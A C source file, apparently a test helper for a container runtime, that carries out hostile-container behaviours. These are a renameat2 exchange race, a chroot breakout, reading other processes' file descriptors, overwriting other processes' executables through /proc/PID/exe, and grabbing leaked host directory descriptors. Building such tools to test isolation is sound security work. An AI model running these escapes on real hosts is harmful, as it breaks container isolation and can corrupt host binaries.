/* SPDX-License-Identifier: Apache-2.0 */
/*
 * adversary.c - what hostile containers do that a shell cannot
 *
 *	adversary exchange A B	exchange two names, again and again
 *	adversary chroot DIR	climb out of a chroot, then list the root
 *	adversary fds PID	list the fds above 2 of a process
 *	adversary overwrite	try to write to the program of every process
 *	adversary steal		open the directories other processes have open
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/fs.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

static int exchange(const char *a, const char *b)
{
	for (;;)
		if (syscall(SYS_renameat2, AT_FDCWD, a, AT_FDCWD, b,
			    RENAME_EXCHANGE) < 0)
			return 1;
}

static int list_root(void)
{
	DIR *dir = opendir("/");
	struct dirent *entry;

	while (dir && (entry = readdir(dir)))
		puts(entry->d_name);
	return dir ? 0 : 1;
}

static int leave_chroot(const char *place)
{
	mkdir(place, 0755);
	if (chroot(place) < 0) {
		perror("chroot");
		return 1;
	}
	for (int i = 0; i < 64; i++)
		if (chdir("..") < 0)
			return 1;
	if (chroot(".") < 0)
		return 1;
	return list_root();
}

static int list_fds(const char *pid)
{
	char path[64], target[256];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	if (!dir)
		return 1;
	while ((entry = readdir(dir))) {
		ssize_t len = readlinkat(dirfd(dir), entry->d_name, target,
					 sizeof(target) - 1);

		if (len > 0 && atoi(entry->d_name) > 2 &&
		    strcmp(pid, "self") != 0) {
			target[len] = '\0';
			printf("%s %s\n", entry->d_name, target);
		}
	}
	return 0;
}

static void say_what(const char *link)
{
	char target[256];
	ssize_t len = readlink(link, target, sizeof(target) - 1);

	target[len > 0 ? len : 0] = '\0';
	printf("overwritten %s\n", target);
	fflush(stdout);
}

/* Opened first, written to later, when it may no longer be executed. */
static void keep_and_write(const char *pid)
{
	static int fds[64], count;
	char path[320];
	int fd;

	snprintf(path, sizeof(path), "/proc/%s/exe", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd >= 0 && count < 64)
		fds[count++] = fd;
	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", fds[i]);
		fd = open(path, O_WRONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (pwrite(fd, "\177ELF", 4, 0) == 4)
			say_what(path);
		close(fd);
	}
}

static int overwrite(void)
{
	char own[16];

	snprintf(own, sizeof(own), "%d", getpid());
	for (int turn = 0; turn < 100000; turn++) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir)))
			if (atoi(entry->d_name) > 0 &&
			    strcmp(entry->d_name, own) != 0)
				keep_and_write(entry->d_name);
		if (dir)
			closedir(dir);
	}
	return 0;
}

/* A directory of the host's is not what has its name in here. */
static void look_into(const char *fd_path)
{
	int fd = open(fd_path, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
	struct stat theirs, ours;
	char target[256];
	ssize_t len;

	if (fd < 0)
		return;
	len = readlink(fd_path, target, sizeof(target) - 1);
	target[len > 0 ? len : 0] = '\0';
	if (len > 0 && fstat(fd, &theirs) == 0 &&
	    (stat(target, &ours) < 0 || theirs.st_dev != ours.st_dev ||
	     theirs.st_ino != ours.st_ino)) {
		printf("stolen %s\n", target);
		fflush(stdout);
	}
	close(fd);
}

static void steal_from(const char *pid)
{
	char path[320];
	struct dirent *entry;
	DIR *dir;

	snprintf(path, sizeof(path), "/proc/%s/fd", pid);
	dir = opendir(path);
	while (dir && (entry = readdir(dir))) {
		snprintf(path, sizeof(path), "/proc/%s/fd/%s", pid,
			 entry->d_name);
		if (atoi(entry->d_name) > 2)
			look_into(path);
	}
	if (dir)
		closedir(dir);
}

static int steal(void)
{
	char own[16];

	snprintf(own, sizeof(own), "%d", getpid());
	for (int turn = 0; turn < 100000; turn++) {
		DIR *dir = opendir("/proc");
		struct dirent *entry;

		while (dir && (entry = readdir(dir)))
			if (atoi(entry->d_name) > 0 &&
			    strcmp(entry->d_name, own) != 0)
				steal_from(entry->d_name);
		if (dir)
			closedir(dir);
	}
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 4 && strcmp(argv[1], "exchange") == 0)
		return exchange(argv[2], argv[3]);
	if (argc == 3 && strcmp(argv[1], "chroot") == 0)
		return leave_chroot(argv[2]);
	if (argc == 3 && strcmp(argv[1], "fds") == 0)
		return list_fds(argv[2]);
	if (argc == 2 && strcmp(argv[1], "overwrite") == 0)
		return overwrite();
	if (argc == 2 && strcmp(argv[1], "steal") == 0)
		return steal();
	return 2;
}
